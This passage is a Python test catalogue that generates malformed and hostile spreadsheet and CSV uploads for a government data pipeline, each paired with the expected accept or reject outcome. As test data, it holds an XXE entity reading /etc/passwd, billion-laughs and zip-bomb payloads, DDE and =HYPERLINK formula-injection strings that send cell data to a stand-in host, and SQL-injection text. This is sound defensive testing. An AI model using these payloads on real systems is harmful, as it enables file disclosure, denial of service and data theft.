"""The bad-input catalogue: malformed and hostile files an OPD (or an attacker with access to the landing zone) can
send, each with the outcome the pipeline must reach. Generated here (deterministic, in memory), not stored as binary
fixtures, so every case documents how it is made.

A case is a valid file of its submission type with one thing broken, so "nothing valid is lost" is checkable: the
expected accepted row count is known. `python -m tests.reliability.catalogue [DIR]` writes the files to a folder
(for trying them by hand with `tkpk validate`) and prints the table that docs/reliability.md carries.
"""

from __future__ import annotations

import io
import random
import re
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from tests.reliability.rows import RowMaker, csv_bytes, table, xls_bytes, xlsx_bytes

PERIOD = "2026-10"
N = 10  # valid rows in most cases

# Findings whose message must name the reason (checked: Indonesian message, non-empty, no raw exception text)
ACCEPTED, REJECTED = "accepted", "rejected"
EITHER = "accepted|rejected"  # accepted with every valid row, or rejected by a limit with a clear message


@dataclass
class Case:
    id: str
    type: str
    name: str  # the file name as sent (may be hostile)
    data: bytes
    outcome: str  # accepted | rejected | accepted|rejected
    what: str  # one line for the docs table
    checks: tuple[str, ...] = ()  # checks that must be among the findings (validate and load)
    load_checks: tuple[str, ...] | None = None  # when the load path names it differently (several files, etc.)
    rows_valid: int | None = None  # accepted rows (None: not asserted)
    rows_total: int | None = None
    rows_valid_min: int | None = None  # at least this many accepted rows (when either outcome of a row is fine)
    forbidden: tuple[str, ...] = ()  # text that must appear nowhere in the outcome (e.g. /etc/passwd contents)
    max_seconds: float = 30.0
    isolate: bool = False  # run only in a separate, memory-capped process (it could take the test runner down)
    max_rss_mb: float | None = None  # peak memory of that process
    group: str = ""
    extra: dict = field(default_factory=dict)

    @property
    def opd(self) -> str:
        return OPD_OF_TYPE.get(self.type, "kel-1571011001")


OPD_OF_TYPE = {
    "dinsos_kpm": "dinsos", "disnaker_bpjstk": "disnaker", "dinkes_ibu_hamil": "dinkes", "disdik_siswa": "disdik",
    "perkim_rumah": "perkim", "koperasi_pemberdayaan": "koperasi", "pertanian_bibit": "pertanian",
    "disdukcapil_mutasi": "disdukcapil", "kelurahan_usulan": "kel-1571011001",
}


def _zip(members: dict[str, bytes], level: int = 9) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _rewrite_xlsx(data: bytes, edits: dict[str, callable]) -> bytes:
    """Copy an xlsx, passing the named members through an edit function."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename in edits:
                body = edits[info.filename](body)
            dst.writestr(info.filename, body)
    return out.getvalue()


def _after_header(data: bytes, edit) -> bytes:
    """Apply `edit` to the data lines of a CSV (the header line left alone)."""
    head, _, body = data.partition(b"\r\n")
    return head + b"\r\n" + edit(body)


def _forge_sizes(data: bytes, size: int) -> bytes:
    """Rewrite the uncompressed size of every member, in the local headers and the central directory."""
    import struct

    out = bytearray(data)
    i = 0
    while (i := out.find(b"PK\x03\x04", i)) != -1:
        struct.pack_into("<I", out, i + 22, size)
        i += 4
    i = 0
    while (i := out.find(b"PK\x01\x02", i)) != -1:
        struct.pack_into("<I", out, i + 24, size)
        i += 4
    return bytes(out)


def _encrypt(data: bytes, password: str = "rahasia") -> bytes:
    import msoffcrypto.format.ooxml

    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def _ods_repeat_bomb(header: list[str], rows: list[list[str]]) -> bytes:
    """A valid ODS table followed by one filled cell repeated over 16,384 columns and 1,048,000 rows."""
    from xml.sax.saxutils import escape

    def row(cells) -> str:
        return "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(str(c))}</text:p></table:table-cell>'
            for c in cells) + "</table:table-row>"

    bomb = ('<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated='
            '"16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>')
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body>'
               '<office:spreadsheet><table:table table:name="Data">' + row(header) + "".join(map(row, rows)) + bomb
               + "</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", content)
        zf.writestr("META-INF/manifest.xml", manifest)
    return buf.getvalue()


def build(config, seed: int = 20261) -> list[Case]:
    """Every case of the catalogue (40+), deterministic for `seed`."""
    rm = RowMaker(config, PERIOD, seed)
    rng = random.Random(seed)
    cases: list[Case] = []

    def add(case: Case, group: str) -> None:
        case.group = group
        cases.append(case)

    def valid(type_code: str, n: int = N) -> tuple[list[str], list[list[str]]]:
        return table(config, type_code, rm.rows(type_code, n))

    # ---------------------------------------------------------------- encodings
    h, rows = valid("dinsos_kpm")
    rows[0][2] = "Sìti Ämínah binti Ğazali"
    add(Case("enc_utf8_bom", "dinsos_kpm", "kpm_utf8_bom.csv", b"\xef\xbb\xbf" + csv_bytes(h, rows, encoding="utf-8"),
             ACCEPTED, "UTF-8 with BOM, accented names", rows_valid=N), "encoding")
    h, rows = valid("disnaker_bpjstk")
    add(Case("enc_utf16_tab", "disnaker_bpjstk", "bpjstk_unicode.txt",
             csv_bytes(h, rows, sep="\t", encoding="utf-16"), ACCEPTED,
             "UTF-16 LE with BOM, tab separated (Excel 'Unicode text')", rows_valid=N), "encoding")
    h, rows = valid("koperasi_pemberdayaan")
    rows[1][1] = "Zaïnab Café"
    add(Case("enc_cp1252_title", "koperasi_pemberdayaan", "koperasi_okt.csv",
             csv_bytes(h, rows, encoding="cp1252", prefix=[["DATA PESERTA \u2013 OKTOBER 2026 (Rp \u20ac)"], []]),
             ACCEPTED, "Windows-1252 `;` CSV with a title row holding an en dash and the euro sign", rows_valid=N),
        "encoding")
    h, rows = valid("pertanian_bibit")
    body = csv_bytes(h, rows, encoding="cp1252").replace(rows[2][1].encode(), b"Tani \x81\x8d\x9d Jaya")
    add(Case("enc_undecodable", "pertanian_bibit", "bibit_rusak_encoding.csv", body, ACCEPTED,
             "bytes that are neither UTF-8 nor Windows-1252 in a name (charset detection fallback)",
             rows_valid=N), "encoding")
    h, rows = valid("disdukcapil_mutasi")
    add(Case("enc_nul_bytes", "disdukcapil_mutasi", "mutasi_nul.csv",
             _after_header(csv_bytes(h, rows), lambda body: body.replace(b";", b";\x00", 3)), ACCEPTED,
             "three stray NUL bytes in a small CSV: text, not a binary file; removed from the values (warning)",
             checks=("karakter_kontrol_dihapus",), rows_valid=N), "encoding")
    h, rows = valid("disdukcapil_mutasi", 300)
    rows[290][1] = rows[290][1][:3] + "\x00" + rows[290][1][3:]
    rows[295][1] = rows[295][1] + "\x07\x1b"
    add(Case("enc_nul_late", "disdukcapil_mutasi", "mutasi_nul_akhir.csv", csv_bytes(h, rows), ACCEPTED,
             "a NUL and a bell/escape deep in a 300-row CSV (past the first 8 KB): removed with a warning on the "
             "cell, the row kept, nothing reaches COPY", checks=("karakter_kontrol_dihapus",), rows_valid=300),
        "encoding")
    h, rows = valid("dinsos_kpm")
    marker = rows[4][2]

    def xml_nul(body: bytes) -> bytes:
        return body.replace(marker.encode(), marker[:2].encode() + b"_x0000_" + marker[2:].encode(), 1)

    add(Case("enc_nul_xlsx", "dinsos_kpm", "kpm_nul.xlsx",
             _rewrite_xlsx(xlsx_bytes({"Data": [h, *rows]}), {"xl/sharedStrings.xml": xml_nul}), ACCEPTED,
             "`_x0000_` (an escaped NUL) inside an XLSX text cell", checks=("karakter_kontrol_dihapus",),
             rows_valid=N), "encoding")

    # ---------------------------------------------------------------- layouts
    h, rows = valid("disnaker_bpjstk")
    sheet = [["DAFTAR PESERTA BPJS KETENAGAKERJAAN"], ["DINAS TENAGA KERJA KOTA JAMBI - OKTOBER 2026"], [],
             ["No", *h], [str(i) for i in range(1, len(h) + 2)]]
    sheet += [[str(i + 1), *r] for i, r in enumerate(rows)]
    sheet += [["JUMLAH", "", "", "", "", "", "", "", str(N)], [], ["", "", "", "", "Jambi, 5 November 2026"],
              ["", "", "", "", "Kepala Dinas"]]
    add(Case("layout_titles_totals_footer", "disnaker_bpjstk", "bpjstk_rapi.xlsx", xlsx_bytes({"Peserta": sheet}),
             ACCEPTED, "title rows, a column-number row, a JUMLAH total row and a signature block", rows_valid=N),
        "layout")
    h, _ = valid("pertanian_bibit", 0)
    add(Case("layout_header_only", "pertanian_bibit", "bibit_kosong.csv", csv_bytes(h, []), REJECTED,
             "header row only", checks=("tidak_ada_baris_data",)), "layout")
    h, rows = valid("disdik_siswa")
    j = h.index("jenjang")
    add(Case("layout_missing_column", "disdik_siswa", "siswa_tanpa_jenjang.csv",
             csv_bytes(h[:j] + h[j + 1:], [r[:j] + r[j + 1:] for r in rows]), REJECTED,
             "a required column (jenjang) missing", checks=("kolom_wajib_tidak_ada",)), "layout")
    h, rows = valid("koperasi_pemberdayaan")
    add(Case("layout_no_header", "koperasi_pemberdayaan", "koperasi_tanpa_judul.csv",
             "\r\n".join(";".join(r) for r in rows).encode(), REJECTED, "data rows without any header row",
             checks=("kolom_wajib_tidak_ada",)), "layout")
    recs = rm.rows("disnaker_bpjstk", N)
    head = ["Keterangan", "Kelurahan", "L/P", "Tgl Lahir", "Nama Lengkap", "No. NIK", "TMT", "Kolom Tambahan"]
    keys = [None, "kode_kelurahan", "jenis_kelamin", "tanggal_lahir", "nama", "nik", "tanggal_mulai", None]
    body_rows = [["catatan" if k is None else r[k] for k in keys] for r in recs]
    add(Case("layout_shuffled_aliases", "disnaker_bpjstk", "bpjstk_acak.csv", csv_bytes(head, body_rows, sep=","),
             ACCEPTED, "columns in another order, header aliases, unknown extra columns", rows_valid=N), "layout")
    h, rows = valid("dinkes_ibu_hamil")
    garbage = [["xx", "yy"], ["\u0000?", "=SUM(A1)"]] * 5
    add(Case("layout_hidden_sheet", "dinkes_ibu_hamil", "bumil.xlsx",
             xlsx_bytes({"Data": [h, *rows], "Tersembunyi": garbage}, hidden=("Tersembunyi",)), ACCEPTED,
             "a hidden sheet with garbage next to the data sheet", rows_valid=N), "layout")
    h, rows = valid("pertanian_bibit", 2 * 5)
    add(Case("layout_sheet_per_kecamatan", "pertanian_bibit", "bibit_per_kecamatan.xlsx",
             xlsx_bytes({"Telanaipura": [h, *rows[:5]], "Jelutung": [h, *rows[5:]], "Petunjuk": [["Isi data"]]}),
             ACCEPTED, "one sheet per kecamatan plus an instructions sheet", rows_valid=N), "layout")
    h, rows = valid("perkim_rumah")
    lines = ["|".join(h)] + ["|".join(r) + ("||" if i % 3 == 0 else "") for i, r in enumerate(rows)]
    add(Case("layout_ragged_pipe", "perkim_rumah", "rumah_pipa.csv", ("\n".join(lines) + "\n").encode(), ACCEPTED,
             "pipe-delimited, ragged rows (extra empty fields)", rows_valid=N), "layout")
    h, rows = valid("kelurahan_usulan")
    a = h.index("alamat")
    for r in rows[:4]:
        r[a] = "Jl. Kenari\nGg. Mawar No. 3;\n\"dekat masjid\""
    add(Case("layout_quoted_newlines", "kelurahan_usulan", "usulan_kel.csv", csv_bytes(h, rows), ACCEPTED,
             "quoted cells holding line breaks, delimiters and quotes", rows_valid=N), "layout")
    h, rows = valid("disnaker_bpjstk")
    add(Case("layout_cr_line_endings", "disnaker_bpjstk", "bpjstk_mac.csv",
             csv_bytes(h, rows).replace(b"\r\n", b"\r"), ACCEPTED,
             "bare CR line endings (Excel 'CSV (Macintosh)')", rows_valid=N, rows_total=N), "layout")
    h, rows = valid("dinkes_ibu_hamil")
    lines = csv_bytes(h, rows).split(b"\r\n")
    mixed = b"".join(line + (b"\r\n", b"\n", b"\r")[i % 3] for i, line in enumerate(lines[:-1]))
    add(Case("layout_mixed_line_endings", "dinkes_ibu_hamil", "bumil_campur.csv", mixed, ACCEPTED,
             "CRLF, LF and CR line endings mixed in one file", rows_valid=N, rows_total=N), "layout")
    h, rows = valid("disnaker_bpjstk")
    nama = h.index("nama")
    rows[2][nama] = '"' + rows[2][nama]
    add(Case("layout_unclosed_quote", "disnaker_bpjstk", "bpjstk_kutip.csv",
             (";".join(h) + "\r\n" + "".join(";".join(r) + "\r\n" for r in rows)).encode(), REJECTED,
             "a quote that never closes in row 4 (the lenient reader swallowed the 7 rows after it into one cell)",
             checks=("struktur_csv_rusak",)), "layout")
    h, rows = valid("dinsos_kpm")
    rows[2][2] = '"' + rows[2][2]
    rows[6][2] = rows[6][2] + '"'
    add(Case("layout_ragged_quotes", "dinsos_kpm", "kpm_kutip_acak.csv",
             (";".join(h) + "\n" + "".join(";".join(r) + "\n" for r in rows)).encode(), REJECTED,
             "a stray opening quote in row 4 closed by a stray quote in row 8 (rows 5-7 would vanish into a cell)",
             checks=("struktur_csv_rusak",)), "layout")
    h, rows = valid("pertanian_bibit")
    text = ";".join(h) + "\r\n" + "".join(";".join(r) + "\r\n" + ";;;;\r\n" * 10_000 for r in rows)
    add(Case("layout_100k_blank_rows", "pertanian_bibit", "bibit_banyak_kosong.csv", text.encode(), ACCEPTED,
             "100,000 blank rows between 10 data rows", rows_valid=N, rows_total=N), "layout")
    h, rows = valid("koperasi_pemberdayaan")
    pad = [""] * 16_000
    add(Case("layout_16k_columns", "koperasi_pemberdayaan", "koperasi_lebar.csv",
             csv_bytes(h + pad, [r + pad for r in rows]), ACCEPTED, "16,000 empty columns to the right",
             rows_valid=N), "layout")

    # ---------------------------------------------------------------- wrong types and broken containers
    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>"
           b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    add(Case("type_pdf_as_xlsx", "pertanian_bibit", "laporan.xlsx", pdf, REJECTED, "a PDF renamed .xlsx",
             checks=("bukan_spreadsheet",)), "type")
    h, rows = valid("dinsos_kpm")
    html = "<html><body><table>" + "".join("<tr>" + "".join(f"<td>{c}</td>" for c in r) + "</tr>"
                                           for r in [h, *rows]) + "</table></body></html>"
    add(Case("type_html_as_xls", "dinsos_kpm", "kpm_dari_aplikasi.xls", html.encode(), REJECTED,
             "an HTML table saved as .xls (web-application export)", checks=("bukan_spreadsheet",)), "type")
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(400))
    add(Case("type_png_as_csv", "disdik_siswa", "foto_daftar.csv", png, REJECTED, "a PNG photo named .csv",
             checks=("bukan_spreadsheet",)), "type")
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    add(Case("type_docx_as_xlsx", "perkim_rumah", "surat.xlsx", docx, REJECTED, "a Word .docx renamed .xlsx",
             checks=("bukan_spreadsheet",)), "type")
    add(Case("type_zip_as_csv", "koperasi_pemberdayaan", "arsip.csv", _zip({"data.csv": b"a;b\n1;2\n"}), REJECTED,
             "a zip archive named .csv", checks=("bukan_spreadsheet",)), "type")
    add(Case("type_garbage_csv", "disnaker_bpjstk", "acak.csv", bytes(rng.randrange(256) for _ in range(64_000)),
             REJECTED, "64 KB of random bytes named .csv", checks=("bukan_spreadsheet",)), "type")
    add(Case("type_garbage_xlsx", "dinkes_ibu_hamil", "acak.xlsx", bytes(rng.randrange(256) for _ in range(64_000)),
             REJECTED, "64 KB of random bytes named .xlsx", checks=("bukan_spreadsheet",)), "type")
    h, rows = valid("pertanian_bibit")
    good_xlsx = xlsx_bytes({"Data": [h, *rows]})
    add(Case("type_truncated_xlsx", "pertanian_bibit", "bibit_terpotong.xlsx", good_xlsx[: len(good_xlsx) // 2],
             REJECTED, "an xlsx cut off halfway (interrupted upload)", checks=("berkas_tidak_terbaca",)), "type")
    add(Case("type_empty", "disdukcapil_mutasi", "mutasi.csv", b"", REJECTED, "0 bytes", checks=("berkas_kosong",)),
        "type")
    add(Case("type_encrypted_xlsx", "pertanian_bibit", "bibit_sandi.xlsx", _encrypt(good_xlsx), REJECTED,
             "a password-protected xlsx", checks=("berkas_terkunci",)), "type")
    add(Case("type_exe", "disdik_siswa", "siswa.exe", b"MZ\x90\x00" + bytes(200), REJECTED,
             "an executable with an unsupported extension", checks=("format_tidak_didukung",),
             load_checks=("berkas_lain_diabaikan", "berkas_tidak_terbaca")), "type")
    h, rows = valid("perkim_rumah")
    add(Case("type_xls_legacy", "perkim_rumah", "rumah_lama.xls", xls_bytes([h, *rows]), ACCEPTED,
             "a real Excel 97-2003 .xls", rows_valid=N), "type")
    add(Case("type_xlsx_named_xls", "perkim_rumah", "rumah.xls", xlsx_bytes({"Data": [h, *rows]}), REJECTED,
             "an xlsx named .xls", checks=("bukan_spreadsheet",)), "type")
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                 "xl/worksheets/sheet1.xml": b"\0" * (64 * 1024 * 1024)})
    add(Case("type_zip_bomb", "dinsos_kpm", "kpm_bom.xlsx", bomb, REJECTED,
             f"zip bomb: {len(bomb) // 1024} KB that unpacks to 64 MB", checks=("dekompresi_berlebih",),
             max_seconds=5), "type")
    add(Case("type_forged_sizes", "dinsos_kpm", "kpm_ukuran_palsu.xlsx", _forge_sizes(bomb, 4096), REJECTED,
             "zip bomb whose headers declare 4 KB per member (passes the ratio check; the streamed read stops it)",
             checks=("berkas_tidak_terbaca",), max_seconds=5), "type")
    xxe_doc = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
               '\n')

    def xxe(body: bytes) -> bytes:
        text = body.decode()
        text = re.sub(r"^<\?xml[^>]*\?>\s*", "", text)
        return (xxe_doc + text.replace("<t>" + rows[0][1] + "</t>", "<t>&xxe;</t>", 1)).encode()

    h, rows = valid("perkim_rumah")
    add(Case("type_xxe_xlsx", "perkim_rumah", "rumah_xxe.xlsx",
             _rewrite_xlsx(xlsx_bytes({"Data": [h, *rows]}), {"xl/sharedStrings.xml": xxe}), REJECTED,
             "XML external entity to /etc/passwd in sharedStrings (XXE): refused, never resolved",
             checks=("berkas_tidak_terbaca",),
             forbidden=("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")), "type")
    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY l0 "hahahahaha">'
              + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)) + ']>\n')

    def billion(body: bytes) -> bytes:
        text = re.sub(r"^<\?xml[^>]*\?>\s*", "", body.decode())
        return (laughs + text.replace("<t>" + rows[1][1] + "</t>", "<t>&l9;</t>", 1)).encode()

    add(Case("type_billion_laughs", "perkim_rumah", "rumah_tawa.xlsx",
             _rewrite_xlsx(xlsx_bytes({"Data": [h, *rows]}), {"xl/sharedStrings.xml": billion}), REJECTED,
             "'billion laughs' entity expansion in sharedStrings: refused, never expanded", max_seconds=20,
             checks=("berkas_tidak_terbaca",),
             forbidden=("hahahahahahahahahaha",)), "type")

    # ---------------------------------------------------------------- sizes
    h, rows = valid("koperasi_pemberdayaan")
    rows[3][1] = "A" * (4 * 1024 * 1024)
    add(Case("size_huge_cell", "koperasi_pemberdayaan", "koperasi_sel_raksasa.csv", csv_bytes(h, rows), ACCEPTED,
             "one 4 MB name cell: an error on its row, not stored whole (the other 9 rows are kept)",
             checks=("sel_terlalu_panjang",), rows_valid=N - 1, rows_total=N), "size")
    h, rows = valid("kelurahan_usulan")
    rows[5][h.index("alamat")] = "Jl. Kenari " * 400
    add(Case("size_cell_over_limit", "kelurahan_usulan", "usulan_alamat_panjang.csv", csv_bytes(h, rows), ACCEPTED,
             "one 4,400-character address, just over the 4,000-character cell limit", checks=("sel_terlalu_panjang",),
             rows_valid=N - 1, rows_total=N), "size")
    h, rows = valid("pertanian_bibit")
    def stray_sheet(row: int, col: int) -> bytes:
        import xlsxwriter

        buf = io.BytesIO()
        wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_numbers": False})
        ws = wb.add_worksheet("Data")
        for i, r in enumerate([h, *rows]):
            for j, v in enumerate(r):
                ws.write_string(i, j, v)
        ws.write_string(row, col, "x")  # someone typed in a far corner of the sheet
        wb.close()
        return buf.getvalue()

    add(Case("size_last_row_1048576", "pertanian_bibit", "bibit_sampai_baris_terakhir.xlsx",
             stray_sheet(1_048_575, 4), ACCEPTED,
             "10 data rows and a stray cell in E1048576 (a 5 KB file declaring 1,048,576 rows)", rows_valid=N,
             max_seconds=90, isolate=True, max_rss_mb=1024), "size")
    add(Case("size_stray_cell_z1048576", "pertanian_bibit", "bibit_sel_z1048576.xlsx", stray_sheet(1_048_575, 25),
             EITHER, "10 data rows and a stray cell in Z1048576 (27 million cells declared by a 5 KB file)",
             rows_valid=N, max_seconds=90, isolate=True, max_rss_mb=1024), "size")
    add(Case("size_stray_cell_xfd100001", "pertanian_bibit", "bibit_sel_xfd.xlsx", stray_sheet(100_000, 16_383),
             REJECTED, "a stray cell in XFD100001: 1.6 billion cells declared by a 5 KB file",
             checks=("lembar_terlalu_besar",), max_seconds=60, isolate=True, max_rss_mb=1024), "size")
    def dimension(body: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', body)

    add(Case("size_declared_dimension", "pertanian_bibit", "bibit_dimensi_palsu.xlsx",
             _rewrite_xlsx(xlsx_bytes({"Data": [h, *rows]}), {"xl/worksheets/sheet1.xml": dimension}), ACCEPTED,
             "a sheet whose <dimension> claims A1:XFD1048576 (17 billion cells)", rows_valid=N, max_seconds=10),
        "size")
    h, rows = valid("perkim_rumah")
    add(Case("size_ods_repeated_cells", "perkim_rumah", "rumah_ulang.ods", _ods_repeat_bomb(h, rows), REJECTED,
             "an ODS row of 16,384 filled cells repeated 1,048,000 times (17 billion cells in a 1 KB file)",
             checks=("lembar_terlalu_besar",), max_seconds=60, isolate=True, max_rss_mb=1024), "size")
    h, rows = valid("kelurahan_usulan")
    wide = csv_bytes(h, rows).replace(b"\r\n", b"\r\n" + b";" * 1_000_000 + b"\r\n", 1)
    add(Case("size_csv_one_wide_line", "kelurahan_usulan", "usulan_lebar.csv", wide + b"x\r\n" * 100_000, REJECTED,
             "a CSV with one line of 1,000,000 empty fields and 100,000 short lines (the parsers would pad every "
             "line: 100 billion cells)", checks=("lembar_terlalu_besar",), max_seconds=60, isolate=True,
             max_rss_mb=1024), "size")

    # ---------------------------------------------------------------- content
    h, rows = valid("koperasi_pemberdayaan")
    hostile_names = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
                     "+62 812-3456", "-2+3+cmd|'/c calc'!A1", "=1+1"]
    for r, name in zip(rows, hostile_names, strict=False):
        r[1] = name
    add(Case("content_formula_text", "koperasi_pemberdayaan", "koperasi_formula.csv", csv_bytes(h, rows), ACCEPTED,
             "formula text (=HYPERLINK, DDE @/+/- payloads) in name cells: kept as text", rows_valid=N,
             extra={"kept_as_text": hostile_names}), "content")
    h, rows = valid("dinsos_kpm")
    sqlish = ["Robert'); DROP TABLE staged_row;--", "x\\\\'; DELETE FROM finding; --", 'Siti "Ami" \\N',
              "Nur\u202eharu\u200b", "Ahmad \U0001F600 \x1b[31m", "Budi\tSantoso\r"]
    for r, name in zip(rows, sqlish, strict=False):
        r[2] = name
    add(Case("content_sql_and_control", "dinsos_kpm", "kpm_injeksi.csv", csv_bytes(h, rows), ACCEPTED,
             "SQL-injection text, backslashes, COPY's \\N, RTL override, zero-width, emoji, ANSI escapes",
             rows_valid=N), "content")
    h, rows = valid("pertanian_bibit")

    def formulas() -> bytes:
        import xlsxwriter

        buf = io.BytesIO()
        wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_numbers": False})
        ws = wb.add_worksheet("Data")
        for j, v in enumerate(h):
            ws.write_string(0, j, v)
        jcol = h.index("jumlah")
        for i, r in enumerate(rows, start=1):
            for j, v in enumerate(r):
                if j == jcol:
                    ws.write_formula(i, j, f"=({v}*2)/2", None, int(v))
                else:
                    ws.write_string(i, j, v)
        wb.close()
        return buf.getvalue()

    add(Case("content_real_formulas", "pertanian_bibit", "bibit_rumus.xlsx", formulas(), ACCEPTED,
             "real formula cells (cached values are read, nothing is evaluated)", rows_valid=N), "content")
    h, rows = valid("disnaker_bpjstk")
    add(Case("content_exact_repeats", "disnaker_bpjstk", "bpjstk_ganda.csv", csv_bytes(h, rows + rows[:3]), ACCEPTED,
             "10 rows and 3 exact repeats", checks=("baris_ganda",), rows_valid=N, rows_total=N + 3), "content")
    h, rows = valid("disdik_siswa")
    conflict = list(rows[0])
    conflict[h.index("nama")] = "Nama Lain Sama NIK"
    conflict[h.index("jenjang")] = "SMK"
    add(Case("content_conflicting_rows", "disdik_siswa", "siswa_konflik.csv", csv_bytes(h, rows + [conflict]),
             ACCEPTED, "the same NIK twice with another name and level (a linkage question, not a file error)",
             rows_valid=N + 1), "content")
    h, rows = valid("disnaker_bpjstk")
    t = h.index("tanggal_lahir")
    bad_dates = ["01/01/1800", "31/12/2999", "31/02/2020", "0", "-1", "99999999", "besok", "2026-13-45"]
    broken = []
    for d in bad_dates:
        r = list(rm.row("disnaker_bpjstk").values())
        r[t] = d
        broken.append(r)
    add(Case("content_dates_extreme", "disnaker_bpjstk", "bpjstk_tanggal.csv", csv_bytes(h, rows + broken), ACCEPTED,
             "birth dates in 1800 and 2999, 31 February, 0, -1, 99999999, words", rows_valid=N,
             rows_total=N + len(bad_dates),
             checks=("tanggal_terlalu_lama", "tanggal_masa_depan", "tanggal_tidak_terbaca")), "content")
    h, rows = valid("koperasi_pemberdayaan", 20)
    k = h.index("nik")
    good = rows[0][k]
    broken_niks = {
        "nik_panjang_salah": [good[:15], good + "7"],
        "nik_bukan_angka": [good[:8] + "O" + good[9:], "NIK-" + good[4:]],
        "nik_notasi_ilmiah": ["1,57101E+15", "1.571E15"],
        "nik_placeholder": ["0000000000000000", good[:12] + "0000", "1111111111111111"],
        "nik_kode_wilayah_salah": ["99" + good[2:], "1500" + good[4:]],
        "nik_tanggal_salah": [good[:6] + "32" + good[8:], good[:8] + "13" + good[10:]],
        "wajib_diisi": ["", "-"],
    }
    broken = []
    for values in broken_niks.values():
        for v in values:
            r = list(rm.row("koperasi_pemberdayaan").values())
            r[k] = v
            broken.append(r)
    fine = []
    for v in ("'" + rows[1][k], rows[2][k][:4] + " " + rows[2][k][4:8] + " " + rows[2][k][8:], rows[3][k] + ".0"):
        fine.append(v)
    for i, v in enumerate(fine, start=1):
        rows[i][k] = v
    add(Case("content_nik_every_broken_kind", "koperasi_pemberdayaan", "koperasi_nik_rusak.csv",
             csv_bytes(h, rows + broken), ACCEPTED,
             "NIKs: 15/17 digits, letters, scientific notation, placeholders, bad region, bad date, blank; "
             "apostrophe, spaces and '.0' are repaired", checks=tuple(broken_niks), rows_valid=20,
             rows_total=20 + len(broken)), "content")
    h, rows = valid("perkim_rumah", 12)
    kk = h.index("no_kk")
    for i, v in enumerate(["1,5710E+15", "157101010101", "0000000000000000", "15710101x1010001"]):
        rows[i][kk] = v
    add(Case("content_kk_broken", "perkim_rumah", "rumah_kk_rusak.csv", csv_bytes(h, rows), ACCEPTED,
             "No KK destroyed by Excel, short, placeholder, letters", rows_valid=8, rows_total=12,
             checks=("kk_notasi_ilmiah", "kk_panjang_salah", "kk_placeholder", "kk_bukan_angka")), "content")
    h, rows = valid("disdukcapil_mutasi")
    k = h.index("nik")
    for r in rows[:8]:
        r[k] = r[k][:14]
    add(Case("content_mostly_bad", "disdukcapil_mutasi", "mutasi_banyak_salah.csv", csv_bytes(h, rows), REJECTED,
             "8 of 10 rows in error (over the 50% threshold)", checks=("terlalu_banyak_baris_salah",)), "content")
    h, rows = valid("dinsos_kpm", 12)
    rows[0][h.index("kode_kelurahan")] = "Kelurahan Antah Berantah"
    rows[1][h.index("program")] = "BLT"
    add(Case("content_unknown_codes", "dinsos_kpm", "kpm_kode_asing.csv", csv_bytes(h, rows), ACCEPTED,
             "a kelurahan outside Kota Jambi, a program outside the allowed set", rows_valid=10, rows_total=12,
             checks=("kelurahan_tidak_dikenal", "nilai_tidak_dikenal")), "content")
    h, rows = valid("disnaker_bpjstk")
    k = h.index("nik")
    numeric = [[float(v) if j == k else v for j, v in enumerate(r)] for r in rows]
    add(Case("content_nik_as_numbers", "disnaker_bpjstk", "bpjstk_nik_angka.xlsx", xlsx_bytes({"Data": [h, *numeric]}),
             ACCEPTED, "NIKs typed as numbers in Excel (floats, exact below 2^53)", rows_valid=N), "content")

    h, rows = valid("dinsos_kpm")
    k = h.index("nik_pengurus") if "nik_pengurus" in h else h.index("nik")
    cut = [i for i, r in enumerate(rows) if r[k][12:15] != "000"][:3]
    numeric = [[(float(v[:15] + "0") if i in cut else float(v)) if j == k else v for j, v in enumerate(r)]
               for i, r in enumerate(rows)]
